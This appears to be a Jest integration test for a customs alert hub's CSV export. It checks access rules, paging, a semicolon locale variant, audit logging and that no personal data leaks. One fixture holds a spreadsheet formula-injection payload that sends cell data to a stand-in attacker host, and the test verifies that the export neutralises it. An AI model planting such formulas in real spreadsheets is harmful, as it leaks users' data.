import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { containerCheckDigit } from '@cix/contracts';
import { call, eventually, minimalSeizure } from './support/http.js';
import { startPlatform, token } from './support/platform.js';

// Issue 11, "a CSV button on every table and chart": the hub's alert list answers `Accept: text/csv`
// with one page of the caller's list — the same filters, access rules and cursor as the JSON list —
// formula-safe, never a person's data, recorded like the JSON delivery and as an export.

const container = (first10: string) => first10 + containerCheckDigit(first10);
const C1 = container('CSVU100000'),
  C2 = container('CSVU200000'),
  C3 = container('CSVU300000');
const PERSON = ['Aidos Zhaksybek', 'N9988776'];
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const HEADER =
  'id,agency,unit,kind,status,raisedAt,occurredAt,commodityCategory,hsCode,description,quantityValue,quantityUnit,containers,route,distributionLevel';

/** RFC 4180 cells (quoted cells may hold the delimiter, doubled quotes and line breaks). */
function parseCsv(text: string, delimiter = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted || (c !== delimiter && c !== '\n' && c !== '\r')) cell += c;
    else if (c === delimiter) endCell();
    else if (c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    }
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

describe('the hub alert list as CSV', () => {
  let p: Awaited<ReturnType<typeof startPlatform>>;
  let kz: string, az: string, coordinator: string, ccpAuditor: string;
  const ids: Record<string, string> = {};
  const csv = (url: string, tok: string) => fetch(`${p.hub.url}${url}`, { headers: { authorization: `Bearer ${tok}`, accept: 'text/csv' } });
  const jsonIds = async (url: string, tok: string) =>
    (await call<{ items: Array<{ id: string }> }>('GET', `${p.hub.url}${url}`, { token: tok })).body.items.map((i) => i.id);
  const rowsOf = async (r: Response, delimiter = ',') => parseCsv((await r.text()).replace(/^\uFEFF/, ''), delimiter);

  beforeAll(async () => {
    p = await startPlatform(['AZ', 'KZ']);
    [kz, az, coordinator, ccpAuditor] = await Promise.all([
      token('KZ', 'officer', 'KZ-AKTAU', 'aigerim'),
      token('AZ', 'officer', 'AZ-ALYAT', 'rashad'),
      token('CCP', 'coordinator', undefined, 'coord'),
      token('CCP', 'auditor', undefined, 'ccp-inspector'),
    ]);
    const post = async (name: string, body: unknown) => {
      const r = await call('POST', `${p.nodes.KZ.url}/api/alerts`, { token: kz, body });
      expect([r.status, r.body?.errors]).toEqual([201, undefined]);
      ids[name] = r.body.id;
    };
    await post(
      'seizure',
      minimalSeizure({
        containers: [C1],
        commodity: { category: 'drugs', description: FORMULA, hsCode: '293911' },
        parties: [
          { role: 'shipper', name: 'Kaspiy Trans LLP' },
          { role: 'driver', name: PERSON[0], isPerson: true, nationality: 'KZ', documentNumber: PERSON[1] },
        ],
      }),
    );
    await post('hrc', minimalSeizure({ kind: 'high-risk-consignment', quantity: undefined, containers: [C2], route: undefined, handlingCode: 'H3' }));
    await post('bilateral', minimalSeizure({ containers: [C3], distribution: { level: 'bilateral', recipients: ['TM'] } }));
    for (const id of Object.values(ids))
      await eventually(async () => (await call('GET', `${p.hub.url}/api/alerts/${id}`, { token: kz })).status === 200, `alert ${id} on the hub`);
  }, 180_000);

  afterAll(async () => {
    await p?.close();
  });

  it("a coordinator's CSV holds the JSON list's alerts, with the columns a coordinator needs and no person", async () => {
    const r = await csv('/api/alerts', coordinator);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="cix-alerts-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(r.headers.get('cache-control')).toBe('no-store');
    expect(r.headers.get('vary')).toMatch(/accept/i);
    const bytes = new Uint8Array(await r.clone().arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = await r.clone().text();
    for (const secret of PERSON) expect(text).not.toContain(secret);
    const [header, ...rows] = await rowsOf(r);
    expect(header.join(',')).toBe(HEADER);
    // The regional alerts, newest first, exactly as the JSON list orders them; not the one shared only with TM.
    expect(rows.map((row) => row[0])).toEqual(await jsonIds('/api/alerts', coordinator));
    expect(rows.map((row) => row[0])).toEqual([ids.hrc, ids.seizure]);
    const json = (await call('GET', `${p.hub.url}/api/alerts/${ids.seizure}`, { token: coordinator })).body;
    expect(rows[1]).toEqual([
      ids.seizure,
      'KZ',
      'KZ-AKTAU',
      'seizure',
      'open',
      json.raisedAt,
      '2026-11-20T08:00:00Z',
      'drugs',
      '293911',
      // The formula is inert: a leading quote, as the trends' CSV writes it.
      `'${FORMULA}`,
      '12.5',
      'kg',
      C1,
      'AF>TM>AZ',
      'regional',
    ]);
    // No quantity, no route: empty cells and the trends' "unknown" route key.
    expect(rows[0].slice(10, 15)).toEqual(['', '', C2, '?>->?', 'regional']);
  });

  it("an officer's CSV is the officer's JSON list: a bilateral alert is absent for a third agency, present for its owner", async () => {
    const azRows = (await rowsOf(await csv('/api/alerts', az))).slice(1);
    expect(azRows.map((row) => row[0])).toEqual(await jsonIds('/api/alerts', az));
    expect(azRows.map((row) => row[0])).not.toContain(ids.bilateral);
    const kzRows = (await rowsOf(await csv('/api/alerts', kz))).slice(1);
    expect(kzRows.map((row) => row[0])).toEqual(await jsonIds('/api/alerts', kz));
    expect(kzRows.find((row) => row[0] === ids.bilateral)?.[14]).toBe('bilateral');
    // Even the owner's officers, who may read the person, never get one in a spreadsheet.
    for (const secret of PERSON) expect(JSON.stringify(kzRows)).not.toContain(secret);
    // The filters are the JSON list's.
    expect((await rowsOf(await csv(`/api/alerts?kind=high-risk-consignment`, az))).slice(1).map((row) => row[0])).toEqual([ids.hrc]);
  });

  it('pages with the cursor in Next-Cursor, like the STIX list; a cursor is the caller’s own', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const r = await csv(`/api/alerts?limit=1${cursor ? `&cursor=${cursor}` : ''}`, kz);
      expect(r.status).toBe(200);
      seen.push(...(await rowsOf(r)).slice(1).map((row) => row[0]));
      cursor = r.headers.get('next-cursor');
      pages++;
    } while (cursor && pages < 10);
    expect([pages, seen]).toEqual([3, await jsonIds('/api/alerts', kz)]);
    const first = await csv('/api/alerts?limit=1', kz);
    expect((await csv(`/api/alerts?limit=1&cursor=${first.headers.get('next-cursor')}`, az)).status).toBe(400);
  });

  it('a semicolon-separated variant for Russian-locale spreadsheets, with decimal commas', async () => {
    const r = await csv(`/api/alerts?container=${C1}&delimiter=semicolon`, coordinator);
    expect(r.status).toBe(200);
    const [header, row] = await rowsOf(r, ';');
    expect(header.join(';')).toBe(HEADER.replace(/,/g, ';'));
    expect([row[0], row[9], row[10]]).toEqual([ids.seizure, `'${FORMULA}`, '12,5']);
    expect((await csv('/api/alerts?delimiter=tab', coordinator)).status).toBe(400);
  });

  it('a CSV page is recorded like the JSON list delivery, and as an export', async () => {
    await csv(`/api/alerts?kind=high-risk-consignment`, coordinator);
    // The log flushes its queue before it is queried.
    const delivered = await call('GET', `${p.hub.url}/api/audit/access-log?alert=${ids.hrc}&limit=500`, { token: ccpAuditor });
    expect(delivered.body.items).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          action: 'alert.list',
          sub: 'coord',
          alertIds: [ids.hrc],
          details: { kind: 'high-risk-consignment', limit: 50, format: 'csv' },
        }),
      ]),
    );
    const exports = await call('GET', `${p.hub.url}/api/audit/access-log?action=alert.list.export&limit=500`, { token: ccpAuditor });
    expect(exports.body.items).toEqual(
      expect.arrayContaining([expect.objectContaining({ action: 'alert.list.export', sub: 'coord', details: { kind: 'high-risk-consignment', limit: 50 } })]),
    );
    // A JSON read is no export.
    const before = exports.body.items.length;
    await call('GET', `${p.hub.url}/api/alerts`, { token: coordinator });
    expect((await call('GET', `${p.hub.url}/api/audit/access-log?action=alert.list.export&limit=500`, { token: ccpAuditor })).body.items).toHaveLength(before);
  });
});
